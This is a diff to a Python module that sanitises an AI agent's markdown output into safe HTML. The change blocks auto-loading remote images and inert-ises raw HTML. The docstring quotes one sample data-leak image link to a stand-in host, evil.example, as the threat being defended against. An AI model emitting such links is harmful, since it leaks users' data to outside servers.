@@ -1,25 +1,97 @@
-"""Agent output as safe HTML: markdown rendered, then sanitised (agent text is untrusted)."""
+"""Agent output as safe HTML: markdown rendered, then sanitised (agent text is untrusted).
+
+Nor may agent output make the browser fetch anything without a click, as a remote image
+would (`![x](https://evil.example/leak?data=...)`): only data:image and attachment: images
+are shown, any other becomes its alt text and its URL as a link.
+"""
 
 from __future__ import annotations
 
 import html
 import json
+import re
+from collections.abc import Sequence
 from functools import lru_cache
 from typing import Any
 
 import nh3
 from markdown_it import MarkdownIt
+from markdown_it.renderer import RendererHTML
+from markdown_it.token import Token
+from markdown_it.utils import EnvType, OptionsDict
+
+# What URL parsers strip before a URL may come first; any other character (U+00A0, say)
+# would make the URL a relative one, which the browser would fetch from the server.
+SAFE_IMAGE = re.compile(r"[\x00-\x20]*(data:image/|attachment:)", re.IGNORECASE)
+LINK_REL = "noopener noreferrer nofollow"
 
 
 @lru_cache(maxsize=1)
 def _markdown() -> MarkdownIt:
     # Raw HTML in the agent's markdown is shown as text, never interpreted.
-    return MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")
+    md = MarkdownIt("commonmark", {"html": False, "linkify": False}).enable("table")
+    md.add_render_rule("image", _image)
+    return md
+
+
+def _image(renderer: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict,
+           env: EnvType) -> str:
+    """An image that loads nothing by itself: a data:/attachment: one, else a placeholder."""
+    token = tokens[idx]
+    src = str(token.attrGet("src") or "")
+    if SAFE_IMAGE.match(src):
+        return renderer.image(tokens, idx, options, env)
+    alt = html.escape(renderer.renderInlineAsText(token.children or [], options, env))
+    url = html.escape(src)
+    return (f'<span title="Image not loaded: agent output loads nothing without a click">'
+            f'[image: {alt or "Image"}] <a href="{url}">{url}</a></span>')
+
+
+_DATA_URL = re.compile(r"[\x00-\x20]*(data|attachment):", re.IGNORECASE)
+
+
+def _attribute(tag: str, name: str, value: str) -> str | None:
+    # The last wall: no src but a data:image or attachment: one survives, and such URLs
+    # (allowed for that) go nowhere else.
+    if name == "src":
+        return value if tag == "img" and SAFE_IMAGE.match(value) else None
+    return None if name in ("href", "cite") and _DATA_URL.match(value) else value
+
+
+def sanitize(markup: str) -> str:
+    """HTML with everything executable or fetching by itself removed."""
+    return nh3.clean(markup, link_rel=LINK_REL, attribute_filter=_attribute,
+                     url_schemes=nh3.ALLOWED_URL_SCHEMES | {"data", "attachment"})
 
 
 def markdown_html(text: str) -> str:
-    """Markdown to HTML with everything executable removed (scripts, handlers, js: URLs)."""
-    return nh3.clean(_markdown().render(text), link_rel="noopener noreferrer nofollow")
+    """Markdown to HTML with everything executable removed (scripts, handlers, js: URLs)
+    and every image but inline data or an attachment shown as a link instead."""
+    return sanitize(_markdown().render(text))
+
+
+# In markdown that some other program renders later (exported notebooks), any "![" may
+# start an image and any "<" before a letter, "/", "!" or "?" raw HTML. An image becomes a
+# link, unless its source is inline data or an attachment; a word joiner (U+2060, unseen)
+# after each such "<" leaves it text for every markdown and HTML parser, in code too.
+_MARKDOWN_IMAGE = re.compile(
+    r"!\[(?:(?P<alt>[^\[\]\\\n]*)\](?P<safe>\([ \t\n]*(?:data:image/|attachment:))?)?",
+    re.IGNORECASE)
+_HTML_START = re.compile(r"<(?=[A-Za-z/!?])")
+
+
+def inert_markdown(text: str) -> str:
+    """Markdown that loads nothing by itself, however it is rendered: images as links,
+    raw HTML as text (as `markdown_html` shows it)."""
+
+    def image(match: re.Match[str]) -> str:
+        if match["safe"]:
+            return match[0]
+        if match["alt"] is None:  # not an alt text this can read: no image at all
+            return "!\u2060["
+        return f"[image: {match['alt']}]"
+
+    return _HTML_START.sub("<\u2060", _MARKDOWN_IMAGE.sub(image, text))
 
 
 def plain_html(text: str) -> str:
